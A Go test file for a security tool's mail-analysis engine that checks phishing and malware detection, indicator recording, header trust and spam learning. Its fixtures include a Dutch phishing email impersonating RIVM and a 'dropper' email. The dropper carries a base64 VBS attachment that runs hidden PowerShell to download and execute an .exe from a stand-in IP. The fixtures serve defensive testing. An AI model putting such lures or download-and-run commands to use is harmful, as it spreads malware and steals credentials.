package engine

import (
	"context"
	"encoding/base64"
	"errors"
	"github.com/ward-health/ward/internal/mail/bayes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ward-health/ward/internal/config"
	"github.com/ward-health/ward/internal/mail"
	"github.com/ward-health/ward/internal/store"
)

// phishingMail imitates RIVM from a look-alike domain and links to a
// credential page; its Reply-To is a look-alike address too, and it links
// to the real rivm.nl as phishing mail often does.
const phishingMail = "From: RIVM Coronatest <info@rivm-coronatest.nl>\r\n" +
	"Reply-To: uitslag@rivm-uitslag.nl\r\n" +
	"To: medewerker@umc-example.nl\r\n" +
	"Subject: Uw coronatest uitslag: log in om te bekijken\r\n" +
	"Message-ID: <1@rivm-coronatest.nl>\r\n" +
	"Content-Type: text/html; charset=utf-8\r\n\r\n" +
	"<p>Beste medewerker, uw COVID-19 testuitslag staat klaar. Log direct in met uw wachtwoord:</p>" +
	"<a href=\"https://rivm-coronatest.nl/login?u=1\">https://www.rivm.nl/uitslag</a> " +
	"<a href=\"https://www.rivm.nl/privacy\">privacy</a> <a href=\"https://partner-ziekenhuis.example/info\">info</a>\r\n"

func dropperMail() string {
	vbs := "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"powershell -w hidden -c iwr http://198.51.100.9/a.exe -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe\"\r\n"
	return "From: WHO <info@who-int.example>\r\nTo: a@umc-example.nl\r\nSubject: Information on Covid-19\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the attachment.\r\n" +
		"--b\r\nContent-Type: application/octet-stream; name=\"CORONAVIRUS_COVID-19.vbs\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString([]byte(vbs)) + "\r\n--b--\r\n"
}

func TestAnalyzeMail(t *testing.T) {
	e, st := newTestEngine(t, func(c *config.Config) {}, &fakeProber{calls: map[string]int{}})
	ctx := context.Background()

	rep, err := e.AnalyzeMail(ctx, "demo", "phish.eml", []byte(phishingMail))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != mail.Phishing {
		t.Fatalf("verdict %s (%v), want phishing", rep.Verdict, rep.Reasons)
	}
	if !slices.Contains(rep.IOCs.URLs, "https://partner-ziekenhuis.example/info") {
		t.Fatalf("the partner link is not among the message's URLs: %v", rep.IOCs.URLs)
	}
	var got []string
	for _, in := range rep.Recorded {
		got = append(got, in.Type+" "+in.Value)
	}
	for _, want := range []string{"url https://rivm-coronatest.nl/login?u=1", "email uitslag@rivm-uitslag.nl", "domain rivm-uitslag.nl",
		"email info@rivm-coronatest.nl", "domain rivm-coronatest.nl"} {
		if !slices.Contains(got, want) {
			t.Errorf("recorded %v, missing %s", got, want)
		}
	}
	for _, g := range got {
		if strings.Contains(g, "www.rivm.nl") || strings.Contains(g, "umc-example") || strings.Contains(g, "partner-ziekenhuis") {
			t.Errorf("recorded a real site the mail links to: %s", g)
		}
	}
	inds, err := st.Indicators(ctx, store.IndicatorFilter{Org: "demo"})
	if err != nil || len(inds) != len(rep.Recorded) || inds[0].Source != "mail" {
		t.Errorf("stored %d indicators (%v), reported %d", len(inds), err, len(rep.Recorded))
	}

	// A dropper: its hash is recorded, and, once known, the next message
	// carrying it is matched against it.
	rep, err = e.AnalyzeMail(ctx, "demo", "dropper.eml", []byte(dropperMail()))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != mail.Malicious {
		t.Fatalf("dropper verdict %s (%v)", rep.Verdict, rep.Reasons)
	}
	var hash string
	for _, in := range rep.Recorded {
		if in.Type == "sha256" {
			hash = in.Value
		}
	}
	if hash == "" || hash != rep.Attachments[0].SHA256 {
		t.Errorf("the dropper's hash was not recorded: %+v", rep.Recorded)
	}

	// A clean message records nothing; an unknown organisation is an error.
	rep, err = e.AnalyzeMail(ctx, "demo", "ok.eml", []byte("From: collega@umc-example.nl\r\nTo: a@umc-example.nl\r\nSubject: rooster\r\n\r\nHet rooster voor volgende week staat online.\r\n"))
	if err != nil || rep.Verdict != mail.Clean || len(rep.Recorded) != 0 {
		t.Errorf("a clean message: %s, recorded %v, %v", rep.Verdict, rep.Recorded, err)
	}
	if _, err := e.AnalyzeMail(ctx, "nope", "x.eml", []byte(phishingMail)); err == nil {
		t.Error("an unknown organisation was accepted")
	}
}

// With mail_verdicts empty, verdicts record nothing; the analysis still
// uses the indicators others recorded.
func TestAnalyzeMailNoRecording(t *testing.T) {
	e, st := newTestEngine(t, func(c *config.Config) { c.Feeds.MailVerdicts = []string{} }, &fakeProber{calls: map[string]int{}})
	ctx := context.Background()
	if _, err := st.UpsertIndicator(ctx, store.Indicator{Org: "import/cert", Scope: "shared", Type: "domain",
		Value: "rivm-coronatest.nl", Source: "import cert", TLP: "amber"}); err != nil {
		t.Fatal(err)
	}
	rep, err := e.AnalyzeMail(ctx, "demo", "phish.eml", []byte(phishingMail))
	if err != nil || len(rep.Recorded) != 0 {
		t.Fatalf("recorded %v, %v", rep.Recorded, err)
	}
	known := false
	for _, r := range rep.Reasons {
		known = known || strings.HasPrefix(r.Signal, "ioc_")
	}
	if !known {
		t.Errorf("the imported indicator was not matched: %v", rep.Reasons)
	}
}

// Authentication results are believed from the organisation's own mail
// servers only.
func TestAnalyzeMailTrustedReceivers(t *testing.T) {
	e, _ := newTestEngine(t, func(c *config.Config) { c.Organisations[0].TrustedReceivers = []string{"mx.umc-example.nl"} }, &fakeProber{calls: map[string]int{}})
	msg := func(authserv string) []byte {
		return []byte("Authentication-Results: " + authserv + "; spf=fail smtp.mailfrom=rivm.nl; dmarc=fail header.from=rivm.nl\r\n" +
			"From: RIVM <info@rivm.nl>\r\nTo: a@umc-example.nl\r\nSubject: uitslag\r\n\r\nUw uitslag staat klaar.\r\n")
	}
	has := func(rep MailReport) bool {
		for _, r := range rep.Reasons {
			if r.Signal == "auth_dmarc_fail" {
				return true
			}
		}
		return false
	}
	rep, err := e.AnalyzeMail(context.Background(), "demo", "t.eml", msg("mx.umc-example.nl"))
	if err != nil || !has(rep) {
		t.Errorf("from the trusted receiver: %v %v", rep.Reasons, err)
	}
	rep, err = e.AnalyzeMail(context.Background(), "demo", "u.eml", msg("mx.attacker.example"))
	if err != nil || has(rep) {
		t.Errorf("a header the sender wrote was believed: %v %v", rep.Reasons, err)
	}
}

// scamMail is one message of a scam campaign worded so that only
// learning can tell it: made-up product words, no link, no brand.
func scamMail(variant string) []byte {
	return []byte("From: Zelvarin <news@zelvarin.example>\r\nTo: a@umc-example.nl\r\nSubject: Zelvarin\r\n\r\n" +
		"Zelvarin quarzomil vintrelo brastolex plumovex drevacol fendrilax glimmerox " +
		"tovarique selmandi orkelith pravonel kestrumil ulbenfor " + variant + ".\r\n")
}

func hasBayes(r mail.Result) bool {
	for _, f := range r.Reasons {
		if f.Signal == mail.SignalBayesSpam {
			return true
		}
	}
	return false
}

// TestLearnMail checks that what analysts teach through the engine is
// used for the next message, is kept in the organisation's file across a
// restart, can be corrected and forgotten, and that an organisation
// without a learning file says so.
func TestLearnMail(t *testing.T) {
	path := filepath.Join(t.TempDir(), "demo.learn")
	setup := func(c *config.Config) { c.Organisations[0].MailLearning = path }
	e, _ := newTestEngine(t, setup, &fakeProber{calls: map[string]int{}})
	ctx := context.Background()

	rep, err := e.AnalyzeMail(ctx, "demo", "new.eml", scamMail("zulu"))
	if err != nil || rep.Verdict != mail.Clean || hasBayes(rep.Result) {
		t.Fatalf("before learning: %v %v %v", rep.Verdict, rep.Reasons, err)
	}
	for _, v := range []string{"alpha", "bravo", "charlie", "delta", "echo"} {
		lr, err := e.LearnMail(ctx, "demo", "spam", scamMail(v))
		if err != nil || lr.Outcome != "learned" {
			t.Fatalf("learn %s: %+v %v", v, lr, err)
		}
	}
	rep, err = e.AnalyzeMail(ctx, "demo", "new.eml", scamMail("zulu"))
	if err != nil || rep.Verdict != mail.Suspicious || !hasBayes(rep.Result) {
		t.Fatalf("after learning: %v %v %v", rep.Verdict, rep.Reasons, err)
	}
	if e.stats.MailLearned.Load() != 5 {
		t.Errorf("MailLearned = %d, want 5", e.stats.MailLearned.Load())
	}

	// A restart reads the file: the learning is still there.
	e2, _ := newTestEngine(t, setup, &fakeProber{calls: map[string]int{}})
	rep, err = e2.AnalyzeMail(ctx, "demo", "new.eml", scamMail("zulu"))
	if err != nil || !hasBayes(rep.Result) {
		t.Fatalf("after a restart: %v %v", rep.Reasons, err)
	}
	for _, c := range []struct{ as, variant, want string }{
		{"spam", "alpha", "already known"},
		{"ham", "alpha", "relearned"},
		{"forget", "alpha", "forgotten"},
		{"forget", "alpha", "not learned"},
	} {
		lr, err := e2.LearnMail(ctx, "demo", c.as, scamMail(c.variant))
		if err != nil || lr.Outcome != c.want {
			t.Fatalf("%s %s: %+v %v; want %s", c.as, c.variant, lr, err, c.want)
		}
	}
	lr, _ := e2.LearnMail(ctx, "demo", "spam", []byte("Subject: hi\r\n\r\n.\r\n"))
	if lr.Outcome != "no words" || lr.Spam != 4 || lr.Ham != 0 {
		t.Fatalf("empty message: %+v", lr)
	}
	if _, err := e2.LearnMail(ctx, "demo", "junk", scamMail("x")); err == nil {
		t.Fatal("learning as junk worked")
	}

	off, _ := newTestEngine(t, func(*config.Config) {}, &fakeProber{calls: map[string]int{}})
	if _, err := off.LearnMail(ctx, "demo", "spam", scamMail("x")); !errors.Is(err, ErrLearningOff) {
		t.Fatalf("without mail_learning: %v, want ErrLearningOff", err)
	}

	// A damaged file stops the start with the reason.
	if err := os.WriteFile(path, []byte("WARDLEARN1\ngarbage"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := config.Default()
	setup(cfg)
	if _, err := New(cfg, Deps{Store: e2.st, Prober: &fakeProber{calls: map[string]int{}}}); err == nil || !strings.Contains(err.Error(), "mail_learning") {
		t.Fatalf("damaged learning file: %v", err)
	}
}

// TestLearnMailSharedFile checks that the daemon and "ward mail learn"
// (here bayes.UpdateLearningFile, as the command calls it) keep each
// other's lessons, and that the daemon reads a file changed by the
// command on its next check.
func TestLearnMailSharedFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "demo.learn")
	e, _ := newTestEngine(t, func(c *config.Config) { c.Organisations[0].MailLearning = path }, &fakeProber{calls: map[string]int{}})
	now := time.Now()
	e.now = func() time.Time { return now }
	ctx := context.Background()
	if _, err := e.LearnMail(ctx, "demo", "spam", scamMail("alpha")); err != nil {
		t.Fatal(err)
	}
	// The command teaches four more meanwhile.
	if _, err := bayes.UpdateLearningFile(path, time.Second, func(l *bayes.Learning) (bool, error) {
		for _, v := range []string{"bravo", "charlie", "delta", "echo"} {
			if _, err := l.Learn(bayes.Tokens(mail.ClassifierInput(ctx, scamMail(v))), true); err != nil {
				return false, err
			}
		}
		return true, nil
	}); err != nil {
		t.Fatal(err)
	}
	// Until the next check, the daemon judges with what it knew.
	rep, _ := e.AnalyzeMail(ctx, "demo", "new.eml", scamMail("zulu"))
	if rep.Verdict != mail.Clean {
		t.Fatalf("the file was read again before the check (one lesson known, five on file): %s %v", rep.Verdict, rep.Reasons)
	}
	now = now.Add(learnCheck + time.Second)
	rep, _ = e.AnalyzeMail(ctx, "demo", "new.eml", scamMail("zulu"))
	if !hasBayes(rep.Result) || rep.Verdict != mail.Suspicious {
		t.Fatalf("after the check: %s %v", rep.Verdict, rep.Reasons)
	}
	// A lesson through the daemon keeps the command's.
	lr, err := e.LearnMail(ctx, "demo", "ham", scamMail("foxtrot"))
	if err != nil || lr.Spam != 5 || lr.Ham != 1 {
		t.Fatalf("after both: %+v %v", lr, err)
	}
}
